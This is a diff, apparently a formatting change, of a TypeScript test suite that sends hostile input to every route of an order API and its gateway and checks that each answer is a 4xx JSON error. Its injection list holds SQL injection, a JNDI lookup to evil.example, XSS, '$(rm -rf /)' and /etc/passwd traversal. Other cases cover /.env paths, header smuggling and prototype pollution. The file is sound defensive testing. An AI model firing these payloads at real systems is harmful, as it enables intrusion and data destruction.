@@ -41,13 +41,27 @@ beforeAll(async () => {
   t = await connectTemporal('hostile');
   worker = await startWorker(t, stack, { httpTimeoutMs: 2000 });
   const apiServer = await listenWithJsonErrors(createTestApi(t, { dbPrefix: stack.prefix }).app, 0, '127.0.0.1');
-  coordinator = new OrderCoordinator({ urls: stack.urls, httpTimeoutMs: 2000, httpConnections: 8, serviceToken: SERVICE_TOKENS.gateway, logger });
-  const gatewayServer = await listenWithJsonErrors(createGatewayApp({ coordinator, logger, apiToken: TEST_TOKEN }), 0, '127.0.0.1');
+  coordinator = new OrderCoordinator({
+    urls: stack.urls,
+    httpTimeoutMs: 2000,
+    httpConnections: 8,
+    serviceToken: SERVICE_TOKENS.gateway,
+    logger,
+  });
+  const gatewayServer = await listenWithJsonErrors(
+    createGatewayApp({ coordinator, logger, apiToken: TEST_TOKEN }),
+    0,
+    '127.0.0.1',
+  );
   servers.push(apiServer, gatewayServer);
   api = `http://127.0.0.1:${boundPort(apiServer)}`;
   gateway = `http://127.0.0.1:${boundPort(gatewayServer)}`;
   sku = await putProduct(stack, { available: 1000, priceCents: 400 });
-  const done = await request(api).post('/orders').query({ wait: 'true' }).set('Authorization', BEARER).send(orderBody(sku));
+  const done = await request(api)
+    .post('/orders')
+    .query({ wait: 'true' })
+    .set('Authorization', BEARER)
+    .send(orderBody(sku));
   expect(done.body.status).toBe('COMPLETED');
   doneSagaId = done.body.sagaId;
 });
@@ -76,7 +90,13 @@ interface Route {
 }
 
 const ROUTES: Record<string, Route> = {
-  'API POST /orders': { app: 'api', method: 'POST', path: () => '/orders', body: () => orderBody(sku), protected: true },
+  'API POST /orders': {
+    app: 'api',
+    method: 'POST',
+    path: () => '/orders',
+    body: () => orderBody(sku),
+    protected: true,
+  },
   'API POST /products/:sku/rename': {
     app: 'api',
     method: 'POST',
@@ -86,8 +106,20 @@ const ROUTES: Record<string, Route> = {
     withParam: (raw) => `/products/${raw}/rename`,
   },
   'API GET /sagas': { app: 'api', method: 'GET', path: () => '/sagas', protected: true },
-  'API GET /sagas/:sagaId': { app: 'api', method: 'GET', path: () => `/sagas/${doneSagaId}`, protected: true, withParam: (raw) => `/sagas/${raw}` },
-  'API POST /sagas/:sagaId/cancel': { app: 'api', method: 'POST', path: () => `/sagas/${doneSagaId}/cancel`, protected: true, withParam: (raw) => `/sagas/${raw}/cancel` },
+  'API GET /sagas/:sagaId': {
+    app: 'api',
+    method: 'GET',
+    path: () => `/sagas/${doneSagaId}`,
+    protected: true,
+    withParam: (raw) => `/sagas/${raw}`,
+  },
+  'API POST /sagas/:sagaId/cancel': {
+    app: 'api',
+    method: 'POST',
+    path: () => `/sagas/${doneSagaId}/cancel`,
+    protected: true,
+    withParam: (raw) => `/sagas/${raw}/cancel`,
+  },
   'API POST /sagas/:sagaId/retry-compensation': {
     app: 'api',
     method: 'POST',
@@ -107,7 +139,13 @@ const ROUTES: Record<string, Route> = {
   'API GET /healthz': { app: 'api', method: 'GET', path: () => '/healthz', protected: false },
   'API GET /openapi.json': { app: 'api', method: 'GET', path: () => '/openapi.json', protected: false },
   'API GET /metrics': { app: 'api', method: 'GET', path: () => '/metrics', protected: false },
-  'gateway POST /orders': { app: 'gateway', method: 'POST', path: () => '/orders', body: () => orderBody(sku), protected: true },
+  'gateway POST /orders': {
+    app: 'gateway',
+    method: 'POST',
+    path: () => '/orders',
+    body: () => orderBody(sku),
+    protected: true,
+  },
   'gateway GET /healthz': { app: 'gateway', method: 'GET', path: () => '/healthz', protected: false },
 };
 const routes = Object.entries(ROUTES);
@@ -131,16 +169,23 @@ function problemsOf(label: string, a: Answer, expected?: number | number[]): str
   const out: string[] = [];
   const statuses = expected === undefined ? undefined : Array.isArray(expected) ? expected : [expected];
   if (a.status < 400 || a.status >= 500) out.push(`${label}: status ${a.status} (${a.text.slice(0, 200)})`);
-  else if (statuses && !statuses.includes(a.status)) out.push(`${label}: status ${a.status}, expected ${statuses.join('/')} (${a.text.slice(0, 200)})`);
+  else if (statuses && !statuses.includes(a.status))
+    out.push(`${label}: status ${a.status}, expected ${statuses.join('/')} (${a.text.slice(0, 200)})`);
   if (!/application\/json/.test(a.contentType)) out.push(`${label}: content-type ${a.contentType || '(none)'}`);
   const err = (a.body as { error?: { code?: unknown; message?: unknown } } | undefined)?.error;
-  if (typeof err?.code !== 'string' || typeof err?.message !== 'string' || err.message.length === 0) out.push(`${label}: not the JSON error shape: ${a.text.slice(0, 200)}`);
+  if (typeof err?.code !== 'string' || typeof err?.message !== 'string' || err.message.length === 0)
+    out.push(`${label}: not the JSON error shape: ${a.text.slice(0, 200)}`);
   return out;
 }
 
 async function viaSupertest(test: request.Test): Promise<Answer> {
   const res = await test;
-  return { status: res.status, contentType: String(res.headers['content-type'] ?? ''), body: res.body, text: res.text ?? '' };
+  return {
+    status: res.status,
+    contentType: String(res.headers['content-type'] ?? ''),
+    body: res.body,
+    text: res.text ?? '',
+  };
 }
 
 /** Sends bytes as they are (for what supertest would normalise or refuse) and parses the answer. */
@@ -159,7 +204,8 @@ function raw(url: string, bytes: Buffer | string): Promise<Answer> {
       const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0);
       const contentType = /\r\ncontent-type: ([^\r\n]*)/i.exec(head)?.[1] ?? '';
       let bodyText = rest.join('\r\n\r\n');
-      if (/\r\ntransfer-encoding: chunked/i.test(head)) bodyText = bodyText.replace(/^[0-9a-f]+\r\n/i, '').replace(/\r\n0\r\n\r\n$/, '');
+      if (/\r\ntransfer-encoding: chunked/i.test(head))
+        bodyText = bodyText.replace(/^[0-9a-f]+\r\n/i, '').replace(/\r\n0\r\n\r\n$/, '');
       let body: unknown;
       try {
         body = JSON.parse(bodyText);
@@ -174,27 +220,39 @@ function raw(url: string, bytes: Buffer | string): Promise<Answer> {
 /** POSTs `body` byte for byte (supertest would JSON-encode a Buffer sent as application/json). */
 function postBytes(route: Route, headers: Record<string, string>, body: Buffer): Promise<Answer> {
   return new Promise((resolve, reject) => {
-    const req = http.request(`${base(route)}${route.path()}`, { method: 'POST', headers: { authorization: BEARER, 'content-length': String(body.length), ...headers } }, (res) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (c: Buffer) => chunks.push(c));
-      res.on('end', () => {
-        const text = Buffer.concat(chunks).toString('utf8');
-        let parsed: unknown;
-        try {
-          parsed = JSON.parse(text);
-        } catch {
-          parsed = undefined;
-        }
-        resolve({ status: res.statusCode ?? 0, contentType: String(res.headers['content-type'] ?? ''), body: parsed, text });
-      });
-    });
+    const req = http.request(
+      `${base(route)}${route.path()}`,
+      { method: 'POST', headers: { authorization: BEARER, 'content-length': String(body.length), ...headers } },
+      (res) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (c: Buffer) => chunks.push(c));
+        res.on('end', () => {
+          const text = Buffer.concat(chunks).toString('utf8');
+          let parsed: unknown;
+          try {
+            parsed = JSON.parse(text);
+          } catch {
+            parsed = undefined;
+          }
+          resolve({
+            status: res.statusCode ?? 0,
+            contentType: String(res.headers['content-type'] ?? ''),
+            body: parsed,
+            text,
+          });
+        });
+      },
+    );
     req.on('error', reject);
     req.end(body);
   });
 }
 
 async function workflowCount(): Promise<number> {
-  const resp = await t.client.workflowService.countWorkflowExecutions({ namespace: 'default', query: `TaskQueue = '${t.taskQueue}'` });
+  const resp = await t.client.workflowService.countWorkflowExecutions({
+    namespace: 'default',
+    query: `TaskQueue = '${t.taskQueue}'`,
+  });
   return Number(resp.count ?? 0);
 }
 
@@ -218,7 +276,16 @@ async function sweep(cases: Case[]): Promise<void> {
   const problems: string[] = [];
   for (let i = 0; i < cases.length; i += 8) {
     const batch = cases.slice(i, i + 8);
-    const answers = await Promise.all(batch.map((c) => c.send().catch((err: Error) => ({ status: 0, contentType: '', body: undefined, text: `request failed: ${err.message}` }))));
+    const answers = await Promise.all(
+      batch.map((c) =>
+        c.send().catch((err: Error) => ({
+          status: 0,
+          contentType: '',
+          body: undefined,
+          text: `request failed: ${err.message}`,
+        })),
+      ),
+    );
     answers.forEach((a, j) => problems.push(...problemsOf(batch[j]!.label, a, batch[j]!.expect)));
   }
   expect(problems).toEqual([]);
@@ -229,7 +296,11 @@ async function sweep(cases: Case[]): Promise<void> {
 }
 
 /** A request to `route` with the valid token, optionally another path, then `build`. */
-function call(route: Route, build: (r: request.Test) => request.Test = (r) => r, path = route.path()): () => Promise<Answer> {
+function call(
+  route: Route,
+  build: (r: request.Test) => request.Test = (r) => r,
+  path = route.path(),
+): () => Promise<Answer> {
   return () => {
     const agent = request(base(route));
     const req = route.method === 'GET' ? agent.get(path) : agent.post(path);
@@ -238,7 +309,10 @@ function call(route: Route, build: (r: request.Test) => request.Test = (r) => r,
 }
 
 /** Sends `body` as the raw JSON text of a POST to a body route. */
-const sendText = (text: string | Buffer, contentType = 'application/json') => (r: request.Test) => r.set('Content-Type', contentType).send(text as string);
+const sendText =
+  (text: string | Buffer, contentType = 'application/json') =>
+  (r: request.Test) =>
+    r.set('Content-Type', contentType).send(text as string);
 
 // ---------------------------------------------------------------------------------------------
 // The classes
@@ -256,8 +330,30 @@ function bombs() {
 
 const deepArray = '['.repeat(5000) + ']'.repeat(5000);
 const deepObject = '{"a":'.repeat(3000) + '1' + '}'.repeat(3000);
-const injections = [`' OR '1'='1`, `x'; DROP TABLE orders; --`, '${jndi:ldap://evil.example/a}', '<script>alert(1)</script>', '{{7*7}}', '$(rm -rf /)', '%00', 'a\u0000b', '../../etc/passwd'];
-const badText = ['a\u0000b', 'line1\r\nSet-Cookie: x=1', 'a\nb', 'pay\u202Eevil', 'iso\u2066late', 'lone \ud800 surrogate', 'lone \udfff low', 'tab\there', 'bell\u0007', 'c1 \u0085 next line', 'ls \u2028 sep'];
+const injections = [
+  `' OR '1'='1`,
+  `x'; DROP TABLE orders; --`,
+  '${jndi:ldap://evil.example/a}',
+  '<script>alert(1)</script>',
+  '{{7*7}}',
+  '$(rm -rf /)',
+  '%00',
+  'a\u0000b',
+  '../../etc/passwd',
+];
+const badText = [
+  'a\u0000b',
+  'line1\r\nSet-Cookie: x=1',
+  'a\nb',
+  'pay\u202Eevil',
+  'iso\u2066late',
+  'lone \ud800 surrogate',
+  'lone \udfff low',
+  'tab\there',
+  'bell\u0007',
+  'c1 \u0085 next line',
+  'ls \u2028 sep',
+];
 
 const CLASSES: Record<string, () => Case[]> = {
   'malformed bodies': () =>
@@ -274,26 +370,51 @@ const CLASSES: Record<string, () => Case[]> = {
         ['single quotes', `{'customerId':'c1'}`, 400],
         ['a comment', `{/* hi */"a":1}`, 400],
         ['NaN', '{"a":NaN}', 400],
-        ['invalid UTF-8', Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]), 400],
+        [
+          'invalid UTF-8',
+          Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]),
+          400,
+        ],
         ['an empty object', '{}', 400],
         ['a UTF-16 body labelled utf-8', Buffer.from(JSON.stringify(r.body!()), 'utf16le'), 400],
       ].map(([what, text, status]) => ({
         label: `${name}: ${what as string}`,
-        send: () => postBytes(r, { 'content-type': 'application/json' }, Buffer.isBuffer(text) ? text : Buffer.from(text as string)),
+        send: () =>
+          postBytes(
+            r,
+            { 'content-type': 'application/json' },
+            Buffer.isBuffer(text) ? text : Buffer.from(text as string),
+          ),
         expect: status as number,
       })),
     ),
 
   'huge bodies': () =>
     bodyRoutes.flatMap(([name, r]) => [
-      { label: `${name}: 70 kB padding field`, send: call(r, (q) => q.send({ ...r.body!(), padding: 'x'.repeat(70 * 1024) })), expect: 413 },
-      { label: `${name}: 2 MB of JSON`, send: call(r, sendText(JSON.stringify({ ...r.body!(), padding: 'y'.repeat(2 * 1024 * 1024) }))), expect: 413 },
-      { label: `${name}: 60 kB field (under the limit)`, send: call(r, (q) => q.send({ ...r.body!(), extra: 'z'.repeat(60 * 1024) })), expect: 400 },
+      {
+        label: `${name}: 70 kB padding field`,
+        send: call(r, (q) => q.send({ ...r.body!(), padding: 'x'.repeat(70 * 1024) })),
+        expect: 413,
+      },
+      {
+        label: `${name}: 2 MB of JSON`,
+        send: call(r, sendText(JSON.stringify({ ...r.body!(), padding: 'y'.repeat(2 * 1024 * 1024) }))),
+        expect: 413,
+      },
+      {
+        label: `${name}: 60 kB field (under the limit)`,
+        send: call(r, (q) => q.send({ ...r.body!(), extra: 'z'.repeat(60 * 1024) })),
+        expect: 400,
+      },
       { label: `${name}: 100 000 array items`, send: call(r, sendText(`[${'1,'.repeat(30_000)}1]`)), expect: 400 },
       {
         // the rest of the body reads as a second (garbage) request on the connection
         label: `${name}: a Content-Length smaller than the body`,
-        send: () => raw(base(r), `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 5\r\nConnection: close\r\n\r\n${JSON.stringify(r.body!())}`),
+        send: () =>
+          raw(
+            base(r),
+            `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 5\r\nConnection: close\r\n\r\n${JSON.stringify(r.body!())}`,
+          ),
         expect: 400,
       },
     ]),
@@ -304,7 +425,8 @@ const CLASSES: Record<string, () => Case[]> = {
       const jsonBomb = bombs().gzipJson;
       const deflated = bombs().deflate;
       const json = Buffer.from(JSON.stringify(r.body!()));
-      const encoded = (encoding: string, body: Buffer) => () => postBytes(r, { 'content-type': 'application/json', 'content-encoding': encoding }, body);
+      const encoded = (encoding: string, body: Buffer) => () =>
+        postBytes(r, { 'content-type': 'application/json', 'content-encoding': encoding }, body);
       return [
         { label: `${name}: gzip of 50 MB`, send: encoded('gzip', bomb), expect: 413 },
         { label: `${name}: gzip of a 20 MB JSON string`, send: encoded('gzip', jsonBomb), expect: 413 },
@@ -320,7 +442,11 @@ const CLASSES: Record<string, () => Case[]> = {
     bodyRoutes.flatMap(([name, r]) => [
       { label: `${name}: 5000 nested arrays`, send: call(r, sendText(deepArray)), expect: 400 },
       { label: `${name}: 3000 nested objects`, send: call(r, sendText(deepObject)), expect: 400 },
-      { label: `${name}: a nested object in a string field`, send: call(r, sendText(JSON.stringify(r.body!()).replace(/:"[^"]*"/, `:${deepObject}`))), expect: 400 },
+      {
+        label: `${name}: a nested object in a string field`,
+        send: call(r, sendText(JSON.stringify(r.body!()).replace(/:"[^"]*"/, `:${deepObject}`))),
+        expect: 400,
+      },
     ]),
 
   'prototype pollution': () =>
@@ -331,49 +457,163 @@ const CLASSES: Record<string, () => Case[]> = {
         ['constructor.prototype at the top', `{"constructor":{"prototype":{"polluted":true}},${valid}}`],
         ['prototype at the top', `{"prototype":{"isAdmin":true},${valid}}`],
         // later keys win in JSON.parse: these replace the valid body's own objects
-        ['__proto__ in the payment', JSON.stringify(r.body!()).replace(/\}$/, ',"payment":{"__proto__":{"polluted":true},"cardNumber":"4242424242424242"}}')],
-        ['__proto__ in the address', JSON.stringify(r.body!()).replace(/\}$/, `,"shippingAddress":{"__proto__":{"isAdmin":true},${JSON.stringify(ADDRESS).slice(1)}}`)],
-        ['__proto__ in an item', JSON.stringify(r.body!()).replace(/\}$/, `,"items":[{"__proto__":{"quantity":5},"sku":"${sku}","quantity":1}]}`)],
-        ['constructor in an item', JSON.stringify(r.body!()).replace(/\}$/, `,"items":[{"constructor":{"prototype":{"polluted":1}},"sku":"${sku}","quantity":1}]}`)],
+        [
+          '__proto__ in the payment',
+          JSON.stringify(r.body!()).replace(
+            /\}$/,
+            ',"payment":{"__proto__":{"polluted":true},"cardNumber":"4242424242424242"}}',
+          ),
+        ],
+        [
+          '__proto__ in the address',
+          JSON.stringify(r.body!()).replace(
+            /\}$/,
+            `,"shippingAddress":{"__proto__":{"isAdmin":true},${JSON.stringify(ADDRESS).slice(1)}}`,
+          ),
+        ],
+        [
+          '__proto__ in an item',
+          JSON.stringify(r.body!()).replace(
+            /\}$/,
+            `,"items":[{"__proto__":{"quantity":5},"sku":"${sku}","quantity":1}]}`,
+          ),
+        ],
+        [
+          'constructor in an item',
+          JSON.stringify(r.body!()).replace(
+            /\}$/,
+            `,"items":[{"constructor":{"prototype":{"polluted":1}},"sku":"${sku}","quantity":1}]}`,
+          ),
+        ],
       ].map(([what, text]) => ({ label: `${name}: ${what}`, send: call(r, sendText(text!)), expect: 400 }));
     }),
 
   'injection strings': () => [
-    ...paramRoutes.flatMap(([name, r]) => injections.map((s) => ({ label: `${name}: path param ${JSON.stringify(s)}`, send: call(r, (q) => q, r.withParam!(encodeURIComponent(s))), expect: [400, 404] }))),
+    ...paramRoutes.flatMap(([name, r]) =>
+      injections.map((s) => ({
+        label: `${name}: path param ${JSON.stringify(s)}`,
+        send: call(r, (q) => q, r.withParam!(encodeURIComponent(s))),
+        expect: [400, 404],
+      })),
+    ),
     ...injections.flatMap((s) => [
-      { label: `API POST /orders: customerId ${JSON.stringify(s)}`, send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { customerId: s }))), expect: 400 },
-      { label: `API POST /orders: sku ${JSON.stringify(s)}`, send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(s))), expect: 400 },
-      { label: `gateway POST /orders: sku ${JSON.stringify(s)}`, send: call(ROUTES['gateway POST /orders']!, (q) => q.send(orderBody(s))), expect: 400 },
-      { label: `API POST /orders: cardNumber ${JSON.stringify(s)}`, send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { payment: { cardNumber: s } }))), expect: 400 },
-      { label: `API GET /sagas: status ${JSON.stringify(s)}`, send: call(ROUTES['API GET /sagas']!, (q) => q.query({ status: `COMPLETED${s}` })), expect: 400 },
-      { label: `API GET /sagas: type ${JSON.stringify(s)}`, send: call(ROUTES['API GET /sagas']!, (q) => q.query({ type: `PlaceOrder${s}` })), expect: 400 },
-      { label: `API GET /sagas: pageToken ${JSON.stringify(s)}`, send: call(ROUTES['API GET /sagas']!, (q) => q.query({ pageToken: s })), expect: 400 },
-      { label: `API GET /sagas: limit ${JSON.stringify(s)}`, send: call(ROUTES['API GET /sagas']!, (q) => q.query({ limit: `5${s}` })), expect: 400 },
+      {
+        label: `API POST /orders: customerId ${JSON.stringify(s)}`,
+        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { customerId: s }))),
+        expect: 400,
+      },
+      {
+        label: `API POST /orders: sku ${JSON.stringify(s)}`,
+        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(s))),
+        expect: 400,
+      },
+      {
+        label: `gateway POST /orders: sku ${JSON.stringify(s)}`,
+        send: call(ROUTES['gateway POST /orders']!, (q) => q.send(orderBody(s))),
+        expect: 400,
+      },
+      {
+        label: `API POST /orders: cardNumber ${JSON.stringify(s)}`,
+        send: call(ROUTES['API POST /orders']!, (q) => q.send(orderBody(sku, { payment: { cardNumber: s } }))),
+        expect: 400,
+      },
+      {
+        label: `API GET /sagas: status ${JSON.stringify(s)}`,
+        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ status: `COMPLETED${s}` })),
+        expect: 400,
+      },
+      {
+        label: `API GET /sagas: type ${JSON.stringify(s)}`,
+        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ type: `PlaceOrder${s}` })),
+        expect: 400,
+      },
+      {
+        label: `API GET /sagas: pageToken ${JSON.stringify(s)}`,
+        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ pageToken: s })),
+        expect: 400,
+      },
+      {
+        label: `API GET /sagas: limit ${JSON.stringify(s)}`,
+        send: call(ROUTES['API GET /sagas']!, (q) => q.query({ limit: `5${s}` })),
+        expect: 400,
+      },
     ]),
     // free text that other systems display: control, line-break and bidi-override characters, lone surrogates
     ...badText.flatMap((s) =>
       (['name', 'line1', 'city', 'postalCode'] as const).flatMap((field) => [
-        { label: `API POST /orders: address ${field} ${JSON.stringify(s)}`, send: call(ROUTES['API POST /orders']!, sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } })))), expect: 400 },
-        { label: `gateway POST /orders: address ${field} ${JSON.stringify(s)}`, send: call(ROUTES['gateway POST /orders']!, sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } })))), expect: 400 },
+        {
+          label: `API POST /orders: address ${field} ${JSON.stringify(s)}`,
+          send: call(
+            ROUTES['API POST /orders']!,
+            sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } }))),
+          ),
+          expect: 400,
+        },
+        {
+          label: `gateway POST /orders: address ${field} ${JSON.stringify(s)}`,
+          send: call(
+            ROUTES['gateway POST /orders']!,
+            sendText(JSON.stringify(orderBody(sku, { shippingAddress: { ...ADDRESS, [field]: s } }))),
+          ),
+          expect: 400,
+        },
       ]),
     ),
-    ...badText.map((s) => ({ label: `API rename: name ${JSON.stringify(s)}`, send: call(ROUTES['API POST /products/:sku/rename']!, sendText(JSON.stringify({ name: s }))), expect: 400 })),
-    ...badText.map((s) => ({ label: `API resolve: note ${JSON.stringify(s)}`, send: call(ROUTES['API POST /sagas/:sagaId/resolve']!, sendText(JSON.stringify({ note: s, operator: s }))), expect: 400 })),
-    { label: 'API POST /orders: a lone surrogate escaped in JSON', send: call(ROUTES['API POST /orders']!, sendText(JSON.stringify(orderBody(sku)).replace('"Ada Lovelace"', '"Ada \\ud800"'))), expect: 400 },
+    ...badText.map((s) => ({
+      label: `API rename: name ${JSON.stringify(s)}`,
+      send: call(ROUTES['API POST /products/:sku/rename']!, sendText(JSON.stringify({ name: s }))),
+      expect: 400,
+    })),
+    ...badText.map((s) => ({
+      label: `API resolve: note ${JSON.stringify(s)}`,
+      send: call(ROUTES['API POST /sagas/:sagaId/resolve']!, sendText(JSON.stringify({ note: s, operator: s }))),
+      expect: 400,
+    })),
+    {
+      label: 'API POST /orders: a lone surrogate escaped in JSON',
+      send: call(
+        ROUTES['API POST /orders']!,
+        sendText(JSON.stringify(orderBody(sku)).replace('"Ada Lovelace"', '"Ada \\ud800"')),
+      ),
+      expect: 400,
+    },
   ],
 
   'path traversal': () => [
     ...paramRoutes.flatMap(([name, r]) =>
-      ['..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'order-..%2F..%2Faudit', 'order-x%00', '%252e%252e%252f', 'order-%E2%80%AE', 'order-x%2Fcancel', 'order-' + 'x'.repeat(300)].map((p) => ({
+      [
+        '..%2F..%2Fetc%2Fpasswd',
+        '%2e%2e',
+        'order-..%2F..%2Faudit',
+        'order-x%00',
+        '%252e%252e%252f',
+        'order-%E2%80%AE',
+        'order-x%2Fcancel',
+        'order-' + 'x'.repeat(300),
+      ].map((p) => ({
         label: `${name}: ${p.slice(0, 40)}`,
         send: call(r, (q) => q, r.withParam!(p)),
         expect: [400, 404],
       })),
     ),
     ...['api', 'gateway'].flatMap((app) =>
-      ['/../../etc/passwd', '/sagas/../audit', '/%2e%2e/%2e%2e/etc/passwd', '/orders/..;/audit', '//orders', '/orders%00', '/ORDERS', '/.env', '/admin/faults'].map((p) => ({
+      [
+        '/../../etc/passwd',
+        '/sagas/../audit',
+        '/%2e%2e/%2e%2e/etc/passwd',
+        '/orders/..;/audit',
+        '//orders',
+        '/orders%00',
+        '/ORDERS',
+        '/.env',
+        '/admin/faults',
+      ].map((p) => ({
         label: `${app} raw path ${p}`,
-        send: () => raw(app === 'api' ? api : gateway, `DELETE ${p} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`),
+        send: () =>
+          raw(
+            app === 'api' ? api : gateway,
+            `DELETE ${p} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`,
+          ),
         expect: [400, 404, 405],
       })),
     ),
@@ -403,10 +643,19 @@ const CLASSES: Record<string, () => Case[]> = {
         expect: 401,
       })),
     ),
-    ...protectedRoutes.map(([name, r]) => ({ label: `${name}: the token in the query string`, send: () => viaSupertest(request(base(r))[r.method === 'GET' ? 'get' : 'post'](`${r.path()}?access_token=${TEST_TOKEN}`)), expect: 401 })),
+    ...protectedRoutes.map(([name, r]) => ({
+      label: `${name}: the token in the query string`,
+      send: () =>
+        viaSupertest(request(base(r))[r.method === 'GET' ? 'get' : 'post'](`${r.path()}?access_token=${TEST_TOKEN}`)),
+      expect: 401,
+    })),
     ...protectedRoutes.map(([name, r]) => ({
       label: `${name}: the token in a second Authorization header`,
-      send: () => raw(base(r), `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\nAuthorization: ${BEARER}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`),
+      send: () =>
+        raw(
+          base(r),
+          `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\nAuthorization: ${BEARER}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
+        ),
       expect: 401,
     })),
     ...bodyRoutes.flatMap(([name, r]) =>
@@ -417,25 +666,53 @@ const CLASSES: Record<string, () => Case[]> = {
         ['an Idempotency-Key with non-ASCII', 'clé'],
         ['an empty Idempotency-Key', ''],
         // resolve takes no Idempotency-Key: it ignores it and answers for the saga (a state conflict)
-      ].map(([what, key]) => ({ label: `${name}: ${what}`, send: call(r, (q) => q.set('Idempotency-Key', key!).send(r.body!())), expect: name.endsWith('/resolve') ? 409 : 400 })),
+      ].map(([what, key]) => ({
+        label: `${name}: ${what}`,
+        send: call(r, (q) => q.set('Idempotency-Key', key!).send(r.body!())),
+        expect: name.endsWith('/resolve') ? 409 : 400,
+      })),
     ),
     ...bodyRoutes.map(([name, r]) => ({
       label: `${name}: CR/LF smuggled into a header`,
-      send: () => raw(base(r), `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nIdempotency-Key: a\rb\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`),
+      send: () =>
+        raw(
+          base(r),
+          `POST ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nIdempotency-Key: a\rb\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
+        ),
       expect: 400,
     })),
     ...routes.map(([name, r]) => ({
       label: `${name}: 40 kB of headers`,
-      send: () => raw(base(r), `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nX-Pad: ${'p'.repeat(40 * 1024)}\r\nConnection: close\r\n\r\n`),
+      send: () =>
+        raw(
+          base(r),
+          `${r.method} ${r.path()} HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nX-Pad: ${'p'.repeat(40 * 1024)}\r\nConnection: close\r\n\r\n`,
+        ),
       expect: 431,
     })),
-    ...routes.map(([name, r]) => ({ label: `${name}: an unknown method`, send: () => raw(base(r), `FOO ${r.path()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`), expect: 400 })),
-    ...routes.map(([name, r]) => ({ label: `${name}: a malformed request line`, send: () => raw(base(r), `${r.method} ${r.path()} HTTP/9.9 extra\r\n\r\n`), expect: 400 })),
-    ...routes.map(([name, r]) => ({ label: `${name}: no Host header`, send: () => raw(base(r), `${r.method} ${r.path()} HTTP/1.1\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`), expect: 400 })),
+    ...routes.map(([name, r]) => ({
+      label: `${name}: an unknown method`,
+      send: () => raw(base(r), `FOO ${r.path()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`),
+      expect: 400,
+    })),
+    ...routes.map(([name, r]) => ({
+      label: `${name}: a malformed request line`,
+      send: () => raw(base(r), `${r.method} ${r.path()} HTTP/9.9 extra\r\n\r\n`),
+      expect: 400,
+    })),
+    ...routes.map(([name, r]) => ({
+      label: `${name}: no Host header`,
+      send: () =>
+        raw(base(r), `${r.method} ${r.path()} HTTP/1.1\r\nAuthorization: ${BEARER}\r\nConnection: close\r\n\r\n`),
+      expect: 400,
+    })),
     ...routes.flatMap(([name, r]) =>
       (['PUT', 'DELETE', 'PATCH'] as const).map((m) => ({
         label: `${name}: ${m}`,
-        send: () => viaSupertest(request(base(r))[m.toLowerCase() as 'put' | 'delete' | 'patch'](r.path()).set('Authorization', BEARER)),
+        send: () =>
+          viaSupertest(
+            request(base(r))[m.toLowerCase() as 'put' | 'delete' | 'patch'](r.path()).set('Authorization', BEARER),
+          ),
         expect: 405,
       })),
     ),
@@ -455,16 +732,20 @@ const CLASSES: Record<string, () => Case[]> = {
         ['octet-stream', 'application/octet-stream', 415],
       ].map(([what, type, status]) => ({
         label: `${name}: ${what as string}`,
-        send: () => postBytes(r, type ? { 'content-type': type as string } : {}, Buffer.from(JSON.stringify(r.body!()))),
+        send: () =>
+          postBytes(r, type ? { 'content-type': type as string } : {}, Buffer.from(JSON.stringify(r.body!()))),
         expect: status as number,
       })),
     ),
 };
 
 describe('hostile input to every route of the API and the gateway', () => {
-  test.each(Object.keys(CLASSES))('when the routes get %s, then every answer is a 4xx JSON error and nothing starts or changes', async (cls) => {
-    await sweep(CLASSES[cls]!());
-  });
+  test.each(Object.keys(CLASSES))(
+    'when the routes get %s, then every answer is a 4xx JSON error and nothing starts or changes',
+    async (cls) => {
+      await sweep(CLASSES[cls]!());
+    },
+  );
 
   test('when twenty requests race with one Idempotency-Key and different bodies, then exactly one saga starts and the rest are 202 for it or 422, never 5xx', async () => {
     const before = await workflowCount();
@@ -505,7 +786,9 @@ describe('hostile input to every route of the API and the gateway', () => {
     expect(answers.filter((a) => a.status >= 500).map((a) => a.text)).toEqual([]);
     const orderIds = new Set(answers.filter((a) => a.status === 200).map((a) => a.body.orderId));
     expect(orderIds.size).toBe(1);
